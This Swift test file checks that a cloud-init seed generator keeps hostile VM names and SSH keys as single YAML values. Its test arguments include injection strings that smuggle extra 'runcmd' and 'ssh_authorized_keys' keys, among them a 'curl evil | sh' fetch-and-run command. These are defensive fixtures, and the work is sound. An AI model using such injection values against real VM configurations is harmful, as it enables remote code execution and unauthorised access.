import Foundation
@testable import NKudoEdge
import Testing

/// Issue 11, point 3: a VM name or SSH key with a newline, `:`, `#`, quotes or unicode
/// stays one value of the cloud-init seed and never adds keys. Checked by an independent
/// YAML parser (PyYAML, which `scripts/setup` installs).
@Suite("Cloud-init seed quoting")
struct CloudInitSeedTests {
    /// `yaml` parsed by PyYAML's `safe_load`, as a JSON object.
    static func parse(_ yaml: String) throws -> [String: Any] {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", "import json, sys, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))"]
        let input = Pipe()
        let output = Pipe()
        process.standardInput = input
        process.standardOutput = output
        try process.run()
        input.fileHandleForWriting.write(Data(yaml.utf8))
        try input.fileHandleForWriting.close()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        try #require(process.terminationStatus == 0, "PyYAML could not parse:\n\(yaml)")
        return try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
    }

    @Test("hostile names and keys stay single values", arguments: [
        "web\nssh_authorized_keys: [ssh-ed25519 AAAA evil]\nruncmd: [reboot]",
        "a: b", "x # not a comment", "\"quoted\"", "'single'", "ünïcødé-名前", "tab\there", "line\u{2028}break\u{85}next",
        "back\\slash", "nul\u{0}byte", "- list", "{flow: map}", "&anchor *alias", "!!python/object x", "",
    ])
    func hostileValues(_ name: String) throws {
        let key = "ssh-ed25519 AAAAC3 user@host\nruncmd: [\"curl evil | sh\"]"
        let seed = CloudInitSeed(id: try VMID("vm-1"), hostname: name, mac: "02:00:00:00:00:01", sshAuthorizedKeys: [key, "ssh-rsa AAAA other"])
        let meta = try Self.parse(seed.metaData)
        #expect(Set(meta.keys) == ["instance-id", "local-hostname", "public-keys"])
        #expect(meta["instance-id"] as? String == "vm-1")
        #expect(meta["public-keys"] as? [String] == [key, "ssh-rsa AAAA other"])
        #expect(meta["local-hostname"] as? String == name)
        let user = try Self.parse(seed.userData)
        #expect(Set(user.keys) == ["hostname", "users", "package_update"])
        #expect(user["hostname"] as? String == name)
        let users = try #require(user["users"] as? [[String: Any]])
        #expect(users.count == 1)
        #expect(users.first?["ssh_authorized_keys"] as? [String] == [key, "ssh-rsa AAAA other"])
        let network = try Self.parse(seed.networkConfig)
        let ethernets = try #require(network["ethernets"] as? [String: Any])
        #expect((ethernets["primary"] as? [String: Any])?["match"] as? [String: String] == ["macaddress": "02:00:00:00:00:01"])
    }
}
